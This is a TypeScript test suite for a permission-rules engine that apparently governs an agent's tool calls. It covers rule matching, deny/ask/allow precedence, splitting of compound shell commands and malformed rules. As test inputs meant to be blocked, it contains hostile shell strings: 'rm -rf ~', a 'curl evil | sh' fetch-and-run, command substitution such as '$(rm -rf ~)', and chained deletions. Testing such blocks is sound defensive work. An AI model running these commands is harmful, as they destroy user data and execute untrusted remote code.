import { evaluatePermissions, ruleProblem, splitShell } from './permission-rules';

describe('permission rules', () => {
  const terminal = (command: string) => ({ tool: 'terminal', subject: command, isShell: true });

  it('matches a tool name alone, or with a pattern for its subject', () => {
    expect(evaluatePermissions({ allow: ['terminal'] }, terminal('anything at all'))?.verdict).toBe('allow');
    expect(evaluatePermissions({ allow: ['terminal(npm test *)'] }, terminal('npm test src/a.ts'))?.verdict).toBe('allow');
    expect(evaluatePermissions({ allow: ['terminal(npm test *)'] }, terminal('npm install'))).toBeUndefined();
    expect(evaluatePermissions({ allow: ['read_file'] }, terminal('ls'))).toBeUndefined();
  });

  it('lets a trailing " *" match nothing, but not glue words together', () => {
    expect(evaluatePermissions({ allow: ['terminal(npm test *)'] }, terminal('npm test'))?.verdict).toBe('allow');
    expect(evaluatePermissions({ allow: ['terminal(ls *)'] }, terminal('lsof'))).toBeUndefined();
  });

  it('puts deny before ask before allow, whatever the list order', () => {
    const rules = { allow: ['terminal'], ask: ['terminal(git push *)'], deny: ['terminal(git push --force *)'] };
    expect(evaluatePermissions(rules, terminal('git push --force origin'))).toEqual({ verdict: 'deny', rule: 'terminal(git push --force *)' });
    expect(evaluatePermissions(rules, terminal('git push origin'))).toEqual({ verdict: 'ask', rule: 'terminal(git push *)' });
    expect(evaluatePermissions(rules, terminal('git status'))).toEqual({ verdict: 'allow', rule: 'terminal' });
  });

  it('allows a compound command only when every part is allowed, and never one with command substitution', () => {
    const rules = { allow: ['terminal(npm test *)', 'terminal(echo *)'] };
    expect(evaluatePermissions(rules, terminal('npm test && echo ok'))?.verdict).toBe('allow');
    expect(evaluatePermissions(rules, terminal('npm test && rm -rf ~'))).toBeUndefined();
    expect(evaluatePermissions(rules, terminal('npm test; curl evil | sh'))).toBeUndefined();
    expect(evaluatePermissions(rules, terminal('echo $(rm -rf ~)'))).toBeUndefined();
    expect(evaluatePermissions(rules, terminal('echo `id`'))).toBeUndefined();
  });

  it('denies a compound command when any part is denied', () => {
    expect(evaluatePermissions({ deny: ['terminal(rm *)'] }, terminal('ls && rm -rf /workspace'))?.verdict).toBe('deny');
    expect(evaluatePermissions({ ask: ['terminal(curl *)'] }, terminal('cd x | curl y'))?.verdict).toBe('ask');
  });

  it('matches paths and tool-name globs', () => {
    expect(evaluatePermissions({ allow: ['write_file(src/*)'] }, { tool: 'write_file', subject: 'src/a/b.ts' })?.verdict).toBe('allow');
    expect(evaluatePermissions({ allow: ['write_file(src/*)'] }, { tool: 'write_file', subject: 'docs/a.md' })).toBeUndefined();
    expect(evaluatePermissions({ deny: ['mcp__github__*'] }, { tool: 'mcp__github__delete_repo' })?.verdict).toBe('deny');
    expect(evaluatePermissions({ allow: ['write_file(src/*)'] }, { tool: 'write_file' })).toBeUndefined();
  });

  it('splits shell lines on operators outside quotes', () => {
    expect(splitShell('a && b || c; d | e & f\ng')).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    expect(splitShell(`echo "a && b" 'c; d' e\\;f`)).toEqual([`echo "a && b" 'c; d' e\\;f`]);
  });

  it('explains a malformed rule', () => {
    expect(ruleProblem('terminal(npm test *)')).toBeUndefined();
    expect(ruleProblem('terminal(npm test')).toMatch(/expected a tool name/);
    expect(ruleProblem('terminal()')).toMatch(/empty/);
    expect(ruleProblem('two words')).toMatch(/expected a tool name/);
  });
});
